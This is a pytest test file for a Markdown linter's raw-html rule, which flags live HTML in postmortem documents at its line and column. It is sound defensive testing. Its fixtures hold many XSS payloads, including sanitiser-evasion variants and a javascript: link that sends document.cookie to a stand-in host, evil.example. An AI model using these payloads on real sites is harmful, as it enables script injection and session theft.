"""The raw-html rule: live HTML in the narrative, at its exact line and column.

Each case edits the clean `final` postmortem and runs `postmortem lint` as an
author would. Active content (script, event handlers, javascript:/data: URLs,
embedding elements) is an error; other HTML is a warning; anything quoted in
code (spans, fenced or indented blocks, at any depth) is never reported.
"""

from __future__ import annotations

import pytest
from helpers import FINAL, FINAL_NAME, Repo, Run

TODAY = "2026-01-01"
QUOTE_IT = "quote the payload in a code span or a fenced code block"
SANITISED = (
    "the site removes what its sanitiser does not allow; use Markdown, or quote it in a code "
    "span or a fenced code block"
)


def inline(payload: str) -> str:
    """The fixture with `payload` at the start of line 112 (the Impact paragraph)."""
    assert FINAL.count("412 customers") == 1
    return FINAL.replace("412 customers", f"{payload} 412 customers")


def appendix(block: str) -> str:
    """The fixture with an Appendix section holding `block`."""
    return f"{FINAL}\n## Appendix\n\n{block}\n"


def at(text: str, needle: str) -> str:
    """'line:column' of the first `needle` in `text`, both counted from 1."""
    offset = text.index(needle)
    return f"{text.count(chr(10), 0, offset) + 1}:{offset - text.rfind(chr(10), 0, offset)}"


def raw_html_findings(run: Run) -> list[str]:
    return [line for line in run.out.splitlines() if " raw-html " in line]


def lint(repo: Repo, text: str | bytes, *args: str) -> Run:
    repo.write(FINAL_NAME, text)
    return repo.run("lint", "--today", TODAY, *args)


# payload written at 112:1, where the finding points, words of its message
ACTIVE = [
    (
        "<script>alert(1)</script>",
        "112:1",
        f"raw HTML <script> runs script when the page is shown: {QUOTE_IT}",
    ),
    (
        "<img src=x onerror=alert(1)>",
        "112:1",
        f"raw HTML <img ... onerror> runs script when the page is shown: {QUOTE_IT}",
    ),
    ("<svg onload=alert(1)>", "112:1", "raw HTML <svg ... onload> runs script"),
    ("<details open ontoggle=alert(1)>", "112:1", "raw HTML <details ... ontoggle> runs script"),
    ("<IMG SRC=x OnError=alert(1)>", "112:1", "raw HTML <IMG ... OnError> runs script"),
    ("<img/src/onerror=alert(1)>", "112:1", "raw HTML <img ... onerror> runs script"),
    ("<img src=x onerror=alert(1)//'>", "112:1", "raw HTML <img ... onerror> runs script"),
    ('<img alt="a>b" onerror=alert(1)>', "112:1", "raw HTML <img ... onerror> runs script"),
    ("<img src=x\nonerror=alert(1)>", "112:1", "raw HTML <img ... onerror> runs script"),
    ("<iframe src=https://evil.example>", "112:1", "raw HTML <iframe> embeds another page"),
    ("<object data=x.swf>", "112:1", "raw HTML <object> embeds active content"),
    ("<embed src=x.swf>", "112:1", "raw HTML <embed> embeds active content"),
    ("<style>body{display:none}</style>", "112:1", "raw HTML <style> restyles the whole page"),
    ("<Script src=//evil.example/x.js>", "112:1", "raw HTML <Script> runs script"),
    (
        '<a href="javascript:alert(1)">x</a>',
        "112:1",
        f"raw HTML <a ... href=javascript:> runs script when followed: {QUOTE_IT}",
    ),
    ('<a href=" jav&#x61;script:alert(1)">x</a>', "112:1", "href=javascript:> runs script"),
    ("<a href='java&Tab;script&colon;alert(1)'>x</a>", "112:1", "href=javascript:>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "112:1", "href=vbscript:> runs script"),
    (
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        "112:1",
        "raw HTML <img ... src=data:> can carry a whole page or script",
    ),
    (
        "[x](javascript:alert(1))",
        "112:5",
        f"link to a javascript: URL (javascript:alert(1)) runs script when followed: {QUOTE_IT}",
    ),
    (
        "![x](data:text/html,<script>alert(1)</script>)",
        "112:6",
        "link to a data: URL (data:text/html,<script>alert(1)</script>) can carry",
    ),
    ("[x](JaVaScRiPt:alert(1))", "112:5", "link to a javascript: URL"),
    ("[x](jav&#x61;script:alert(1))", "112:5", "link to a javascript: URL (jav&#x61;script"),
    ("[x](java%73cript:alert(1))", "112:5", "link to a javascript: URL"),
    ("[x](javascript\\:alert(1))", "112:5", "link to a javascript: URL"),
    ("[x]( <javascript:alert(1)>)", "112:7", "link to a javascript: URL"),
    ("<javascript:alert(1)>", "112:2", "link to a javascript: URL (javascript:alert(1))"),
    ("[x]: javascript:alert(1)\n\n", "112:6", "link to a javascript: URL"),
    ("  [x]:\n  <vbscript:msgbox(1)>\n\n", "113:4", "link to a vbscript: URL"),
]


@pytest.mark.parametrize(("payload", "where", "words"), ACTIVE, ids=[c[0] for c in ACTIVE])
def test_active_content_is_an_error_at_its_place(
    repo: Repo, payload: str, where: str, words: str
) -> None:
    run = lint(repo, inline(payload))
    findings = raw_html_findings(run)
    assert len(findings) == 1, run.out
    assert findings[0].startswith(f"{FINAL_NAME}:{where}: error raw-html "), run.out
    assert words in findings[0]
    assert run.exit_code == 1


# other raw HTML, and the element a warning names
BENIGN = [
    ("<details>", "details"),
    ("<br>", "br"),
    ("<br/>", "br"),
    ('<div align="center">', "div"),
    ("<kbd>Ctrl</kbd>", "kbd"),
    ("<B>bold</B>", "B"),
]


@pytest.mark.parametrize(("payload", "name"), BENIGN, ids=[c[0] for c in BENIGN])
def test_other_raw_html_is_a_warning(repo: Repo, payload: str, name: str) -> None:
    run = lint(repo, inline(payload))
    assert raw_html_findings(run) == [
        f"{FINAL_NAME}:112:1: warning raw-html raw HTML <{name}>: {SANITISED}"
    ]
    assert run.exit_code == 0
    assert lint(repo, inline(payload), "--strict").exit_code == 1


def test_each_element_is_reported_once_at_its_opening_tag(repo: Repo) -> None:
    run = lint(repo, inline("<b>bold</b> and <i>italic</i> and a stray </div>"))
    assert [line.split(": ")[0] for line in raw_html_findings(run)] == [
        f"{FINAL_NAME}:112:1",
        f"{FINAL_NAME}:112:17",
    ]


# What quoting looks like: nothing in it is reported. Each block is followed by a
# sentinel, the one finding expected, so a block that swallowed too much fails too.
SENTINEL = "Afterwards <kbd>sentinel</kbd>."
PAYLOAD = "<img src=x onerror=alert(1)> [x](javascript:alert(1))"
QUOTED = {
    "code span": f"Quoted: `{PAYLOAD}`.",
    "double backticks": f"Quoted: ``{PAYLOAD} with a ` inside``.",
    "code span over two lines": "Quoted: `<img src=x\nonerror=alert(1)>`.",
    "fenced block": f"```\n{PAYLOAD}\n```",
    "fenced block with info": f"```html title='payload'\n{PAYLOAD}\n```",
    "tilde fence": f"~~~~\n{PAYLOAD}\n~~~~",
    "longer fence holding a fence": f"`````\n```\n{PAYLOAD}\n```\n`````",
    "indented block": f"    {PAYLOAD}\n    <script>alert(1)</script>",
    "fence in a list item": f"- The e-mail said:\n\n  ```\n  {PAYLOAD}\n  ```",
    "indented block in a list item": f"1. The e-mail said:\n\n       {PAYLOAD}",
    "fence in a nested list": f"- outer\n  - inner\n    ~~~\n    {PAYLOAD}\n    ~~~",
    "fence in a quote in a list": f"- item\n  > ```\n  > {PAYLOAD}\n  > ```",
    "indented block in a quote": f">     {PAYLOAD}",
    "HTML comment": f"<!-- reviewers: {PAYLOAD} -->",
    "backslash escapes": "\\<script>alert(1)\\</script> and \\<img src=x onerror=alert(1)>",
    "autolinks": "See <https://example.com/a?b=c> or write to <security@example.com>.",
    "comparisons": "Latency < 200 ms, 3<4, and a -> b.",
    "safe links": "[runbook](https://example.com/runbook), [top](#summary), [log](../logs/a.txt)",
    "link title": '[runbook](https://example.com/runbook "not <script> but a title")',
}


@pytest.mark.parametrize("block", QUOTED.values(), ids=QUOTED.keys())
def test_quoted_payloads_are_never_reported(repo: Repo, block: str) -> None:
    text = appendix(f"{block}\n\n{SENTINEL}")
    run = lint(repo, text)
    assert raw_html_findings(run) == [
        f"{FINAL_NAME}:{at(text, '<kbd>sentinel')}: warning raw-html raw HTML <kbd>: {SANITISED}"
    ], run.out


def test_template_prompts_are_the_placeholder_rules_business(repo: Repo) -> None:
    run = lint(repo, inline("<Describe the impact on users.>"))
    assert raw_html_findings(run) == []
    assert f"{FINAL_NAME}:112:1: error placeholder " in run.out


@pytest.mark.parametrize(
    ("block", "needle"),
    [
        ("- first\n- second <img src=x onerror=alert(1)>", "<img"),
        ("> quoted <svg onload=alert(1)>", "<svg"),
        ("> - in a list in a quote\n>   and on: <script>alert(1)</script>", "<script"),
        ("1. one\n\n   - two\n\n     [x](javascript:alert(1))", "javascript"),
        ("-\n  <img src=x onerror=alert(1)>", "<img"),
        ("<div>\n`<img src=x onerror=alert(1)>` is live in an HTML block\n</div>", "<img"),
        ("```\nquoted\n```\n<script>alert(1)</script>", "<script"),
    ],
    ids=["list", "quote", "list in quote", "nested list", "bare marker", "HTML block", "after"],
)
def test_nested_payloads_point_at_their_column(repo: Repo, block: str, needle: str) -> None:
    text = appendix(block)
    run = lint(repo, text)
    errors = [line for line in raw_html_findings(run) if ": error raw-html " in line]
    assert [line.split(": ")[0] for line in errors] == [f"{FINAL_NAME}:{at(text, needle)}"]


def test_crlf_file_reports_the_same_place(repo: Repo) -> None:
    text = inline("<img src=x onerror=alert(1)>").replace("\n", "\r\n")
    run = lint(repo, text.encode())
    assert [line.split(": ")[0] for line in raw_html_findings(run)] == [f"{FINAL_NAME}:112:1"]
    text = appendix("- item\n\n  ```\n  <script>x</script>\n  ```\n\n> <b>x</b>")
    run = lint(repo, text.replace("\n", "\r\n").encode())
    assert [line.split(": ")[0] for line in raw_html_findings(run)] == [
        f"{FINAL_NAME}:{at(text, '<b>')}"
    ]


def test_payload_on_the_first_body_line(repo: Repo) -> None:
    text = FINAL.replace("---\n\n## Summary", "---\n<script>alert(1)</script>\n\n## Summary", 1)
    run = lint(repo, text)
    assert raw_html_findings(run)[0].startswith(f"{FINAL_NAME}:101:1: error raw-html ")


def test_html_in_front_matter_is_not_the_narrative(repo: Repo) -> None:
    text = FINAL.replace("tags: [customer-facing, retrieval]", "tags: ['<b>', '[x](data:,)']")
    assert raw_html_findings(lint(repo, text)) == []


def test_message_does_not_repeat_a_long_payload(repo: Repo) -> None:
    payload = "javascript:fetch('https://evil.example/?c='+document.cookie)" + "/*x*/" * 40
    run = lint(repo, inline(f"[x]({payload})"))
    (finding,) = raw_html_findings(run)
    assert "(javascript:fetch('https://evil.example/…)" in finding
    assert "/*x*//*x*/" not in finding


def test_drafts_are_checked_too(repo: Repo) -> None:
    text = (
        "---\nid: AIPM-2026-001\ntitle: A short but complete title\nstatus: draft\n"
        "severity: low\nidentified: 2026-03-02\nreported_by: Ops\n---\n\n"
        "## Summary\n\nThe model wrote <script>alert(1)</script> into the chat.\n"
    )
    repo.write("postmortems/2026/AIPM-2026-001-x.md", text)
    run = repo.run("lint")
    assert raw_html_findings(run) == [
        "postmortems/2026/AIPM-2026-001-x.md:12:17: error raw-html raw HTML <script> runs "
        f"script when the page is shown: {QUOTE_IT}"
    ]


def test_configuration_sets_the_level_of_every_finding(repo: Repo) -> None:
    repo.write(
        "pyproject.toml", '[tool.postmortem.rules]\nlate-draft = "off"\nraw-html = "warning"\n'
    )
    run = lint(repo, inline("<script>alert(1)</script> <b>x</b>"))
    assert [line.split(" raw-html ")[0] for line in raw_html_findings(run)] == [
        f"{FINAL_NAME}:112:1: warning",
        f"{FINAL_NAME}:112:27: warning",
    ]
    repo.write("pyproject.toml", '[tool.postmortem.rules]\nlate-draft = "off"\nraw-html = "off"\n')
    assert raw_html_findings(lint(repo, inline("<script>alert(1)</script>"))) == []
